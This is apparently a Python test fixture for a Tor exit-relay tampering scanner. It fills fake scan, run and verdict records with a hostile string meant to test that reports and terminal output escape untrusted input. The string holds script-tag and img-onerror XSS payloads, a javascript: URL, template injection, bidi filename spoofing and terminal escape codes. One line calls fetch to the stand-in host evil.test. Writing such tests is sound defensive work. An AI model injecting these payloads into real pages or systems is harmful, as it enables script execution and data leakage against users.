"""A scan as hostile exits, operators and targets may have filled it: what the page is tried on, in a browser, too.

Whatever anybody but us writes holds all that a browser or a terminal would obey. If a script of it ever ran, the title
of the page would say so (`OWNED`), and a request would leave.
"""

import asyncio
import hashlib
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from exitpin.orchestrator.results.exhibit import Blob, exhibit, pack
from exitpin.orchestrator.results.store import Store

FIXTURES = Path(__file__).resolve().parents[3] / "tools.d" / "fixtures" / "tls-cert"
OWNED = "owned"
RUNS = f"document.title='{OWNED}';fetch('http://evil.test/x')"
BIDI = "\u202egnp.exe\u2066"
TEXT = (
    f'</bdi></script><script>{RUNS}</script><img src=http://evil.test/i onerror="{RUNS}"><!--'
    f" javascript:{RUNS} {{{{7*7}}}} ' \" & {BIDI} \x1b]0;{OWNED}\x07 \x00 \ud800 \u2028"
)
"""What every text of the scan holds."""
SECRET_ADDRESS = "198.51.100.77"  # of the machine that looked: in the facts of a direct control, and nowhere else
HONEST_PAGE = b"<html>\n<body>\n<p>an honest page</p>\n</body>\n</html>\n"
EVIL_PAGE = HONEST_PAGE.replace(
    b"</body>", f"<script>{RUNS}</script>\n".encode() + b"\xff\xfe\x00</body>".replace(b"\0", b"")
)
TOOLS = ("tls-cert", "http-body", "dns-exit")
SCAN = "20260102T030405-abcdef"


def fingerprint(number: int) -> str:
    return hashlib.sha1(b"%d" % number).hexdigest().upper()


def exit_table(number: int) -> dict[str, Any]:
    return {
        "fingerprint": fingerprint(number),
        "nickname": f"exit{number:02d}{TEXT if number == 1 else ''}",
        "addresses": [f"203.0.113.{number % 256}"],
        "flags": ["Exit", TEXT],
        "family": [f"${fingerprint(number + 1)}"],
        "contact": f"operator{number} {TEXT}",
        "consensus": "2026-01-02 03:00:00",
    }


def tool_table(tool: str) -> dict[str, Any]:
    return {"id": tool, "summary": f"Is {tool} well?", "digest": "d" * 64, "version": "1.0", "params": {"host": TEXT}}


def facts(tool: str, lies: bool, vantage: str = "exit") -> dict[str, Any]:
    """What a run shows."""
    own = {"seen": SECRET_ADDRESS} if vantage == "direct" else {}
    if tool == "dns-exit":
        return {"addresses": ["192.0.2.66", TEXT] if lies else ["192.0.2.1"], **own}
    if tool == "tls-cert":
        return {"chain": ["b" * 64 if lies else "a" * 64], "verify_code": 18 if lies else 0, **own}
    return {"body": hashlib.sha256(EVIL_PAGE if lies else HONEST_PAGE).hexdigest(), "code": 200, **own}


def pieces(tool: str, lies: bool) -> dict[str, Blob]:
    """The evidence of a run."""
    if tool == "tls-cert":
        name = "self-signed.txt" if lies else "honest.txt"
        return {"stdout": pack((FIXTURES / name).read_bytes())}
    if tool == "http-body":
        return {"artifact:body": pack(EVIL_PAGE if lies else HONEST_PAGE)}
    return {}


def run_record(run_id: str, tool: str, number: int, role: str, lies: bool, **changes: Any) -> dict[str, Any]:
    status = "tampered" if lies else "ok"
    began = 1_767_322_000.0 + number
    found = pieces(tool, lies)
    return {
        "schema": "exitpin.run/1", "run_id": run_id, "scan_id": SCAN, "key": f"k{number}{tool}", "role": role,
        "attempt": 1, "status": status, "start": began,
        "t": {"queue": began, "circuit": began + 0.4, "first_stream": began + 0.6, "first_byte": began + 0.9,
              "end": began + 1.3},
        "exit": exit_table(number), "tool": tool_table(tool), "source_address": "127.64.0.1",
        "circuits": [{"id": 7, "path": [fingerprint(99), fingerprint(number)], "reason": TEXT}],
        "streams": [{
            "pid": 1, "source_address": "127.64.0.1", "source_port": 4000, "tag": "t", "destination": f"{TEXT}:443",
            "is_lookup": False, "resolved": TEXT, "stream_id": 9, "circuit_id": 7, "status": "succeeded",
            "closed": True, "reason": "END", "remote_reason": TEXT, "bytes_up": 10, "bytes_down": 20,
            "witnesses": ["source-address", "source-port", "socks-username"],
        }],
        "denied": [{"pid": 1, "reason": "udp", "what": TEXT}],
        "process": {"rc": 0, "signal": None, "timed_out": False, "stdout": TEXT if lies else None, "stderr": None},
        "facts": facts(tool, lies), "evidence": [exhibit(name, blob) for name, blob in found.items()],
        **changes,
    }  # fmt: skip


def verdict_record(tool: str, number: int, status: str, runs: Sequence[str], **changes: Any) -> dict[str, Any]:
    is_lie = status in ("tampered", "suspect")
    controls = [
        {"vantage": "exit", "exit": fingerprint(n), "run_id": f"{SCAN}-c{tool}{n}", "at": 1_767_322_000.0 + n,
         "facts": facts(tool, False)}
        for n in range(50, 54)
    ]  # fmt: skip
    direct = {"vantage": "direct", "exit": None, "run_id": None, "at": 1.0, "facts": facts(tool, False, "direct")}
    return {
        "schema": "exitpin.verdict/1", "verdict_id": f"{SCAN}-v{number:04d}{tool}", "scan_id": SCAN,
        "key": f"k{number}{tool}", "status": status, "severity": "high" if is_lie else None,
        "rule": 2 if is_lie else None, "when": TEXT if is_lie else None, "reason": TEXT if status != "ok" else "",
        "lied": len(runs) if is_lie else 0, "of": len(runs), "undecided": [TEXT] if is_lie else [],
        "layer": "target" if status == "error" else None, "blame": None if status == "ok" else "exit",
        "retryable": False, "interrupted": False, "tool": tool_table(tool), "exit": exit_table(number),
        "vantage": {"kind": "lab", "name": TEXT, "tor": "0.4.9"}, "started": 1_767_322_000.0,
        "ended": 1_767_322_100.0 + number,
        "runs": [{"run_id": run, "role": "probe", "status": "tampered" if is_lie else status, "reason": TEXT, "t": 1.0,
                  "doubts": [TEXT] if is_lie else []} for run in runs],
        "controls": [*controls, direct],
        "failure": {"kind": "timeout", "blame": "target", "retryable": True, "detail": TEXT}
        if status in ("error", "broken") else None,
        "evidence": [], "reproduce": f"exitpin audit {tool} -e {fingerprint(number)}",
        **changes,
    }  # fmt: skip


def scan_record(exits: int, **changes: Any) -> dict[str, Any]:
    return {
        "schema": "exitpin.scan/1", "scan_id": SCAN, "state": "done", "started": 1_767_322_000.0,
        "ended": 1_767_322_900.0, "exitpin": "1.0", "vantage": {"kind": "lab", "name": TEXT, "tor": "0.4.9"},
        "consensus": "2026-01-02 03:00:00", "evidence": [],
        "tools": [
            {"id": tool, "word": tool, "digest": "d" * 64, "key": "e" * 64, "params": {"host": TEXT}, "given": [],
             "secret": []}
            for tool in TOOLS
        ],
        "exits": [fingerprint(n) for n in range(1, exits + 1)], "planned": exits * len(TOOLS),
        "legs": [{"started": 1_767_322_000.0, "ended": 1_767_322_900.0, "how": "done",
                  "consensus": "2026-01-02 03:00:00", "evidence": []}],
        "settings": {"seed": 1, "repeat": 1}, **changes,
    }  # fmt: skip


STATUSES = ("tampered", "ok", "suspect", "ok", "broken", "error", "ok", "skipped", "ok")


def status_of(number: int, tool: str) -> str:
    """Exit 1 lies about everything; the others take turns."""
    return "tampered" if number == 1 else STATUSES[(number * 2 + TOOLS.index(tool)) % len(STATUSES)]


def fill(path: Path, exits: int = 9, **scan: Any) -> None:
    """The store: this scan, and an earlier one of the same exits and tools."""

    async def go() -> None:
        store = Store(path)
        store.add_scan(scan_record(exits, **scan))
        store.add_scan(scan_record(exits, scan_id="20250102T030405-000000", started=1_735_700_000.0))
        for tool in TOOLS:
            for n in range(50, 54):
                control = run_record(f"{SCAN}-c{tool}{n}", tool, n, "control", False)
                store.add(control, list(pieces(tool, False).values()))
            for number in range(1, exits + 1):
                status = status_of(number, tool)
                lies = status in ("tampered", "suspect")
                runs = [f"{SCAN}-{number:04d}{tool}{n}" for n in range(3 if lies else 1)] if status != "skipped" else []
                for run in runs:
                    record = run_record(run, tool, number, "probe", lies)
                    store.add(record, list(pieces(tool, lies).values()))
                store.add(verdict_record(tool, number, status, runs))
                old = {"scan_id": "20250102T030405-000000", "verdict_id": f"old-v{number:04d}{tool}", "ended": 1e9}
                store.add(verdict_record(tool, number, "ok", [], **old))
        await store.close()

    asyncio.run(go())
